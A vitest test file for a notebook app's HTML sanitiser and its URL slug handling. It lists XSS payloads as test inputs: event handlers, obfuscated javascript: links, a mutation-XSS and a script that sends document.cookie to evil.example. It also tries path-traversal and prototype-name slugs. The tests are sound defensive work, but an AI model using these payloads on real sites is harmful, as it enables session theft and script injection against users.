import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { loadNotebook } from '$lib/notebooks';
import { parseNotebook } from '$lib/notebooks/notebook';
import { notebookSanitizer } from '$lib/notebooks/sanitize';
import { load } from '../../../src/routes/notebooks/[slug]/+page';

const { window } = new JSDOM('');
const sanitize = notebookSanitizer(window);
const FRONT = '---\ntitle: T\nsummary: S\nduration: 10\nlevel: introductory\norder: 1\n---\n';
const CELL = '```cell\nid: a\nexperiment: task=passkey&len=256\n```\n';

/** The prose HTML of a notebook whose prose is `markdown`, sanitised as the app does it. */
const render = (markdown: string) => {
	const block = parseNotebook('x', `${FRONT}${markdown}\n\n${CELL}`, sanitize).blocks[0];
	return block.kind === 'prose' ? block.html : '';
};

const FORBIDDEN_TAGS = new Set(['script', 'iframe', 'object', 'embed', 'style', 'form', 'meta', 'base', 'link']);
/** http(s), or relative: no scheme at all before the first / ? or #. */
const SAFE_URL = /^(?:https?:|[^:]*$|[^:]*[/?#])/i;

/** Everything that could run script or leave the page: checked in the parsed DOM, not by string search. */
function dangers(html: string): string[] {
	const found: string[] = [];
	const root = window.document.createElement('div');
	root.innerHTML = html;
	for (const el of root.querySelectorAll('*')) {
		const tag = el.localName;
		if (FORBIDDEN_TAGS.has(tag)) found.push(`<${tag}>`);
		for (const { name, value } of el.attributes) {
			if (/^on/i.test(name)) found.push(`${tag} ${name}=`);
			if (/^(?:href|src|srcset|action|formaction|xlink:href|poster|background|data)$/i.test(name) && !SAFE_URL.test(value.replace(/\s/g, ''))) found.push(`${tag} ${name}="${value}"`);
		}
	}
	return found;
}

const NOTHING = /^(?:\s|<p><\/p>)*$/;
// [what, markdown, what must remain]
const hostile: [string, string, RegExp][] = [
	['a script tag', 'Before <script>alert(1)</script> after', /<p>Before\s+after<\/p>/],
	['a script block', '<script>\nfetch("https://evil.example/?" + document.cookie)\n</script>', NOTHING],
	['an img onerror', '<img src="x" onerror="alert(1)">', /<img src="x">/],
	['an onclick button', '<button onclick="alert(1)">Run</button>', /<button>Run<\/button>/],
	['an https link with onclick', '<a href="https://example.com" onclick="steal()">ok</a>', /<a href="https:\/\/example.com">ok<\/a>/],
	['a details ontoggle', '<details open ontoggle="alert(1)"><summary>s</summary></details>', /<details open=""><summary>s<\/summary><\/details>/],
	['a markdown javascript: link', '[click](javascript:alert(1))', /<a>click<\/a>/],
	['a mixed-case JaVaScRiPt: link', '[click](JaVaScRiPt:alert(1))', /<a>click<\/a>/],
	['a javascript: link after spaces', '<a href="  javascript:alert(1)">spaced</a>', /<a>spaced<\/a>/],
	['a javascript: link written with an entity', '<a href="&#106;avascript&#58;alert(1)">entity</a>', /<a>entity<\/a>/],
	['a javascript: link split by a tab entity', '<a href="java&#x09;script:alert(1)">tab</a>', /<a>tab<\/a>/],
	['a data:text/html link', '[doc](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', /<a>doc<\/a>/],
	['a data: image', '![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)', /<img alt="pic">/],
	['a vbscript: link', '[vb](vbscript:msgbox(1))', /<a>vb<\/a>/],
	['a javascript: image', '![pic](javascript:alert(1))', /<img alt="pic">/],
	['an unknown scheme', '[app](ms-settings:privacy)', /<a>app<\/a>/],
	['an iframe', '<iframe src="https://evil.example"></iframe>', NOTHING],
	['an object and an embed', '<object data="x.swf"></object><embed src="x.swf">', NOTHING],
	['a style element', '<style>body { display: none }</style>\n\nText', /<p>Text<\/p>/],
	['an svg onload', '<svg onload="alert(1)"><circle r="1"/></svg>', /<svg><circle r="1"><\/circle><\/svg>/],
	['an svg javascript: xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', /<svg><a><text>x<\/text><\/a><\/svg>/],
	['a form posting to javascript:', '<form action="javascript:alert(1)"><button>Go</button></form>', /<button>Go<\/button>/],
	['a button formaction', '<button formaction="javascript:alert(1)">Go</button>', /<button>Go<\/button>/],
	['a meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', NOTHING],
	['a noscript mutation-XSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', NOTHING],
	['a KaTeX \\href to javascript:', '$\\href{javascript:alert(1)}{x}$', /class="katex/]
];

describe('hostile notebook markup is made harmless', () => {
	it.each(hostile)('%s', (_, markdown, remains) => {
		const html = render(markdown);
		expect(html).not.toMatch(/<script/i);
		expect(dangers(html)).toEqual([]);
		expect(html).toMatch(remains);
	});
});

const TEX = String.raw`\text{resident bytes} = 2 \cdot L \cdot H_{kv} \cdot d \cdot b \cdot \min(n, B)`;
// [what, markdown, what must survive]
const wanted: [string, string, RegExp[]][] = [
	['a KaTeX formula', `$$\n${TEX}\n$$`, [/<span class="katex">/, /<math xmlns="http:\/\/www.w3.org\/1998\/Math\/MathML" display="block"><semantics><mrow>/, /<msub><mi>H<\/mi>/, /<annotation encoding="application\/x-tex">/, /style="height:/, /aria-hidden="true"/]],
	['KaTeX\'s SVG (a square root)', '$\\sqrt{d}$', [/<svg xmlns="http:\/\/www.w3.org\/2000\/svg"[^>]* viewBox="/, /<path d="M/]],
	['an https link', '[paper](https://arxiv.org/abs/2309.17453)', [/<a href="https:\/\/arxiv.org\/abs\/2309.17453">paper<\/a>/]],
	['a relative link', '[next](./02-retrieval-heads)', [/<a href=".\/02-retrieval-heads">next<\/a>/]],
	['a root-relative link with a query', '[lab](/lab?task=passkey&len=256)', [/<a href="\/lab\?task=passkey&amp;len=256">lab<\/a>/]],
	['an anchor', '[above](#setup)', [/<a href="#setup">above<\/a>/]],
	['an https image', '![figure](https://example.com/fig.png)', [/<img src="https:\/\/example.com\/fig.png" alt="figure">/]],
	['a claim', 'Accuracy is {{a.accuracy >= 50%}}.', [/<span class="claim" data-claim="0" data-cell="a" title="measured by cell a: accuracy >= 50%">≥ 50%<\/span>/]]
];

describe('what notebooks need survives sanitising', () => {
	it.each(wanted)('%s', (_, markdown, survives) => {
		const html = render(markdown);
		for (const pattern of survives) expect(html).toMatch(pattern);
		expect(dangers(html)).toEqual([]);
	});
});

describe('notebook slugs from the URL', () => {
	// Names on Object.prototype used to resolve to functions ("source.replace is not a function").
	it.each(['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf', 'README', '../etc/passwd', '01-attention-sinks.md', ''])('"%s" is no notebook', (slug) => {
		expect(loadNotebook(slug, window)).toBeNull();
		let thrown: unknown;
		try {
			load({ params: { slug } } as never);
		} catch (e) {
			thrown = e;
		}
		expect(thrown).toMatchObject({ status: 404, body: { message: `There is no notebook called "${slug}".` } });
	});

	it('a real slug loads, sanitised', () => {
		const notebook = loadNotebook('01-attention-sinks', window)!;
		expect(notebook.meta.title).toBeTruthy();
		for (const block of notebook.blocks) if (block.kind === 'prose') expect(dangers(block.html)).toEqual([]);
	});

	it('without a DOM to sanitise with, the page shows a problem instead of raw HTML', () => {
		expect(() => loadNotebook('01-attention-sinks', undefined)).toThrow(/without a DOM/);
		expect(load({ params: { slug: '01-attention-sinks' } } as never)).toMatchObject({ notebook: null, problem: expect.stringMatching(/without a DOM/) });
	});
});
